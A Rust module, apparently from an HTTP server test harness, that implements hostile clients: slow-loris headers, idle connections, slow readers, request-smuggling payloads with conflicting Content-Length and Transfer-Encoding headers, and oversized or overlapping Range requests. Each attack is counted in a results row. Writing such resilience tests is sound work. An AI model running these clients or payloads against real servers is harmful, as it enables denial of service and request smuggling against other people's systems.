//! Attacks: what hostile clients do, each in one thread.

use super::AttackRow;
use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// Pause between two bytes of a slow client.
const DRIP: Duration = Duration::from_secs(1);
/// Longest time for an answer to a request that is sent whole.
const ANSWER_WITHIN: Duration = Duration::from_secs(20);
/// Head behind which another request is smuggled, if the server and a proxy before it do not agree where it ends.
const SMUGGLED: &str = "GET /smuggled HTTP/1.1\r\nHost: t\r\n\r\n";
/// Ranges of one request that are refused by their number, and by the length of their head.
const RANGES: usize = 1000;
const RANGES_TOO_MANY: usize = 10_000;

/// Kind of hostile clients.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Without any.
    None,
    /// Heads that come byte by byte and never end.
    SlowHeads,
    /// Connections without a request.
    Idle,
    /// Heads that two programs could read differently.
    Smuggled,
    /// Ranges that are huge, or very many.
    Ranges,
    /// Clients that ask for a large file and take a byte a second.
    SlowReaders,
}

impl Attack {
    /// All but none.
    pub const ALL: [Self; 5] = [
        Self::SlowHeads,
        Self::Idle,
        Self::Smuggled,
        Self::Ranges,
        Self::SlowReaders,
    ];

    /// Name in reports and on the command line.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::None => "none",
            Self::SlowHeads => "slow-heads",
            Self::Idle => "idle",
            Self::Smuggled => "smuggled",
            Self::Ranges => "ranges",
            Self::SlowReaders => "slow-readers",
        }
    }

    /// Description in a few words.
    #[must_use]
    pub fn doc(self) -> &'static str {
        match self {
            Self::None => "honest clients alone",
            Self::SlowHeads => {
                "heads that come byte by byte, one a second, and never end (slow loris); closed ones are opened again"
            }
            Self::Idle => "connections that send nothing; closed ones are opened again",
            Self::Smuggled => {
                "heads that two programs could read differently, with a second request behind each, one after the other"
            }
            Self::Ranges => {
                "ranges beyond the end, overlapping ones, 1,000 and 10,000 in one request"
            }
            Self::SlowReaders => "requests for 1 GiB of which a byte a second is taken",
        }
    }

    /// Attacks until all is over.
    pub(super) fn run(self, address: SocketAddr, count: usize, is_over: &AtomicBool) -> AttackRow {
        let mut row = AttackRow::default();
        match self {
            Self::None => {}
            Self::SlowHeads => {
                let head = b"GET /a HTTP/1.1\r\nHost: t\r\nX: ";
                hold(address, count, head, Some(b"a"), is_over, &mut row);
            }
            Self::Idle => hold(address, count, b"", None, is_over, &mut row),
            Self::SlowReaders => {
                let head = b"GET /large HTTP/1.1\r\nHost: t\r\n\r\n";
                hold(address, count, head, None, is_over, &mut row);
            }
            Self::Smuggled => ask(address, &smuggled(), is_over, &mut row),
            Self::Ranges => ask(address, &ranges(), is_over, &mut row),
        }
        row
    }
}

/// Holds connections, sends `first` on each, and then `drip` once a second. Of answers a byte a second is read.
fn hold(
    address: SocketAddr,
    count: usize,
    first: &[u8],
    drip: Option<&[u8]>,
    is_over: &AtomicBool,
    row: &mut AttackRow,
) {
    let mut held: Vec<Option<TcpStream>> = (0..count).map(|_| None).collect();
    let mut is_first = vec![true; count];
    let mut due = Instant::now();
    while !is_over.load(Ordering::Relaxed) {
        for (place, is_first) in held.iter_mut().zip(&mut is_first) {
            if is_over.load(Ordering::Relaxed) {
                return;
            }
            let Some(stream) = place else {
                *place = open(address, first, row);
                *is_first = true;
                continue;
            };
            // A write that fails shows in the read behind it.
            let _ = drip.map(|drip| stream.write(drip));
            let mut room = [0; 16];
            let most = if *is_first { 12 } else { 1 };
            match stream.read(&mut room[..most]) {
                Ok(0) => {
                    row.closed += 1;
                    *place = None;
                }
                Ok(got) => {
                    row.read_bytes += got as u64;
                    if std::mem::take(is_first) {
                        note_status(&room[..got], row);
                    }
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => {
                    row.closed += 1;
                    *place = None;
                }
            }
        }
        due += DRIP;
        while let Some(left) = due.checked_duration_since(Instant::now()) {
            if is_over.load(Ordering::Relaxed) {
                return;
            }
            std::thread::park_timeout(left.min(Duration::from_millis(100)));
        }
    }
}

fn open(address: SocketAddr, first: &[u8], row: &mut AttackRow) -> Option<TcpStream> {
    let opened = TcpStream::connect_timeout(&address, ANSWER_WITHIN).and_then(|mut stream| {
        stream.write_all(first)?;
        stream.set_nonblocking(true)?;
        Ok(stream)
    });
    match &opened {
        Ok(_) => row.connections += 1,
        Err(_) => row.not_opened += 1,
    }
    opened.ok()
}

/// Sends requests one after the other, each by a connection of its own, and reads all that comes.
fn ask(address: SocketAddr, requests: &[String], is_over: &AtomicBool, row: &mut AttackRow) {
    for request in requests.iter().cycle() {
        if is_over.load(Ordering::Relaxed) {
            return;
        }
        let Ok(mut stream) = TcpStream::connect_timeout(&address, ANSWER_WITHIN) else {
            row.not_opened += 1;
            continue;
        };
        row.connections += 1;
        let sent = stream
            .set_read_timeout(Some(ANSWER_WITHIN))
            .and_then(|()| stream.write_all(request.as_bytes()));
        // A server that closes while bytes come has answered before; so the answer is read in any case.
        let _ = sent;
        let mut answer = Vec::new();
        let ended = stream.read_to_end(&mut answer);
        row.closed += u64::from(ended.is_ok());
        row.read_bytes += answer.len() as u64;
        note_status(&answer, row);
        if request.ends_with(SMUGGLED) {
            let second = answer.windows(9).skip(1);
            row.smuggled += second.filter(|bytes| *bytes == b"HTTP/1.1 ").count() as u64;
        }
    }
}

fn note_status(answer: &[u8], row: &mut AttackRow) {
    let status = match answer
        .get(9..12)
        .and_then(|code| std::str::from_utf8(code).ok())
    {
        Some(status) => status.to_owned(),
        None => "no answer".to_owned(),
    };
    *row.statuses.entry(status).or_default() += 1;
}

fn smuggled() -> Vec<String> {
    let heads = [
        "Content-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\nContent-Length: 1\r\n\r\n0\r\n\r\n",
        "Content-Length: 1\r\nContent-Length: 2\r\n\r\nxy",
        "Content-Length: +1\r\n\r\nx",
        "Content-Length: 0x1\r\n\r\nx",
        "Transfer-Encoding: identity\r\n\r\n",
        "Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\n1\nx\r\n0\r\n\r\n",
        "A: 1\nB: 2\r\n\r\n",
        "A: 1\r\n 2\r\n\r\n",
        "Host: u\r\n\r\n",
    ];
    let whole = |head: &str| format!("GET /a HTTP/1.1\r\nHost: t\r\n{head}{SMUGGLED}");
    heads.iter().map(|head| whole(head)).collect()
}

fn ranges() -> Vec<String> {
    let list = |one: fn(usize) -> String, count: usize| {
        let all: Vec<String> = (0..count).map(one).collect();
        all.join(",")
    };
    let values = [
        "0-18446744073709551615".to_owned(),
        "0-99999999999999999999999999".to_owned(),
        "99999999999-".to_owned(),
        "-99999999999999999999".to_owned(),
        "5-1".to_owned(),
        list(|_| "0-".to_owned(), RANGES),
        list(|at| format!("{}-{}", 2 * at, 2 * at), RANGES),
        list(|_| "0-0".to_owned(), RANGES_TOO_MANY),
    ];
    let whole = |value: &String| {
        format!("GET /a HTTP/1.1\r\nHost: t\r\nConnection: close\r\nRange: bytes={value}\r\n\r\n")
    };
    values.iter().map(whole).collect()
}
